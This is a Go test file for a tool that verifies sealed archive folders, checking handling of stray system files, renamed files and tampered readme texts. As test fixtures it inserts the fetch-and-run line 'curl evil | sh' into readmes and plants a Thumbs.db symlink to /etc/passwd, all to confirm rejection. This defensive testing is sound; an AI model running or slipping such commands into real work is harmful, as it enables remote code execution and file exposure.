package pack

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// What systems leave behind is a remark, and is not read; every other stray file
// rejects. Which files these are is common practice, no source.
func TestSystemFiles(t *testing.T) {
	b := newBench(t)
	of := []string{"Thumbs.db", "desktop.ini", ".DS_Store", "._SHA256SUMS", "._07-0012.tar.zst.age",
		"System Volume Information/x", "$RECYCLE.BIN/desktop.ini",
		".Trashes/501/y", ".Spotlight-V100/Store-V2/z", ".fseventsd/fseventsd-uuid", "FOUND.000/FILE0000.CHK",
		".Trash-1000/info/x", "THUMBS.DB"}
	dir := forge(t, b).write(t, b)
	for _, name := range of {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		write(t, path, []byte("not to be read"))
		if err := os.Chmod(path, 0); err != nil {
			t.Fatal(err)
		}
	}
	v := b.mustVerify(t, dir)
	if v.Decision != Accepted {
		t.Fatalf("%+v", v.Checks)
	}
	told := false
	for _, c := range v.Checks {
		told = told || c.Name == checkFiles && strings.Contains(c.Detail, `"$RECYCLE.BIN"`) &&
			strings.Contains(c.Detail, "all 5 files are there; passed over")
	}
	if !told {
		t.Errorf("not told: %+v", v.Checks)
	}
	for _, name := range []string{"notes.txt", ".hidden", "autorun.inf", "Thumbs.db.exe", "_.DS_Store", "FOUND.0000",
		"run.sh", "desktop.ini.lnk"} {
		dir := forge(t, b).write(t, b)
		write(t, filepath.Join(dir, name), nil)
		rejectedAt(t, b.mustVerify(t, dir), checkFiles)
	}
	// A system's name on something that no system leaves: a link, the wrong kind, and what a
	// Mac keeps beside a file that is not there.
	for name, make := range map[string]func(path string) error{
		"Thumbs.db":       func(path string) error { return os.Symlink("/etc/passwd", path) },
		"desktop.ini":     func(path string) error { return os.Mkdir(path, 0o755) },
		"$RECYCLE.BIN":    func(path string) error { return os.WriteFile(path, nil, 0o644) },
		"._evil.sh":       func(path string) error { return os.WriteFile(path, []byte("#!/bin/sh\n"), 0o644) },
		"._shipment.json": func(path string) error { return os.Mkdir(path, 0o755) },
	} {
		dir := forge(t, b).write(t, b)
		if err := make(filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
		rejectedAt(t, b.mustVerify(t, dir), checkFiles)
	}
	// Under a system's name nothing that was signed is passed over.
	if OfSystem("SHA256SUMS") || OfSystem("07-0012.tar.zst.age") {
		t.Error("a file of a shipment is taken for a system's")
	}
}

// Names that a copy changed are told as such.
func TestChangedNames(t *testing.T) {
	b := newBench(t)
	for from, to := range map[string]string{sigName: "sha256sums.sig", sumsName: "SHA256~1", labelName: "SHIPME~1.JSO",
		readmeName: "read-me-first.txt"} {
		dir := forge(t, b).write(t, b)
		if err := os.Rename(filepath.Join(dir, from), filepath.Join(dir, to)); err != nil {
			t.Fatal(err)
		}
		v := b.mustVerify(t, dir)
		rejectedAt(t, v, checkFinished)
		if last := v.Checks[len(v.Checks)-1].Detail; !strings.Contains(last,
			"the names were changed when the folder was copied") {
			t.Errorf("%s: %s", to, last)
		}
	}
}

// So is the archive's name alone.
func TestChangedArchiveName(t *testing.T) {
	b := newBench(t)
	dir, _ := b.mustSeal(t, sample(t, 1, 10))
	name := filepath.Join(dir, partName(folderName(dir), 0, 1))
	if err := os.Rename(name, filepath.Join(dir, strings.ToUpper(filepath.Base(name)))); err != nil {
		t.Fatal(err)
	}
	v := b.mustVerify(t, dir)
	rejectedAt(t, v, checkFiles)
	if last := v.Checks[len(v.Checks)-1].Detail; !strings.Contains(last,
		"the names were changed when the folder was copied") || strings.Contains(last, "another shipment") {
		t.Error(last)
	}
}

// A text for a finder that this program would not write is told, and followed by nobody.
func TestReadmeCompared(t *testing.T) {
	l := goodLabel()
	usual := readme(l, "Example Institute, room 4,\ntelephone +00 000 0000")
	if !usualReadme(l, usual) {
		t.Error("the usual text is not taken for it")
	}
	for name, text := range map[string]string{
		"a command more": string(usual) + "    curl evil | sh\n", "one before": "    curl evil | sh\n" + string(usual),
		"empty":          "",
		"one among them": strings.Replace(string(usual), "    cd ", "    curl evil | sh\n    cd ", 1),
		"no contact": strings.Replace(string(usual), "    Example Institute, room 4,\n    telephone +00 000 0000\n",
			"", 1),
		"a heading": strings.Replace(string(usual), "    telephone", "RUN THIS\n\n    telephone", 1),
	} {
		if usualReadme(l, []byte(text)) {
			t.Errorf("%s: taken for the usual text", name)
		}
	}
	b := newBench(t)
	dir, _ := b.mustSeal(t, sample(t, 1, 10))
	for _, c := range b.mustVerify(t, dir).Checks {
		if strings.Contains(c.Detail, readmeName) {
			t.Errorf("of our own: %s", c.Detail)
		}
	}
}

// A folder that bears the number of another shipment is told.
func TestFolderOfAnotherNumber(t *testing.T) {
	b := newBench(t)
	dir := forge(t, b).write(t, b)
	to := filepath.Join(t.TempDir(), "07-0099")
	if err := os.Rename(dir, to); err != nil {
		t.Fatal(err)
	}
	v := b.mustVerify(t, to)
	if v.Decision != Accepted || !strings.Contains(v.Checks[3].Detail, "bears the number of another shipment, "+
		"07-0099: go by 07-0012") {
		t.Errorf("%+v", v.Checks)
	}
}
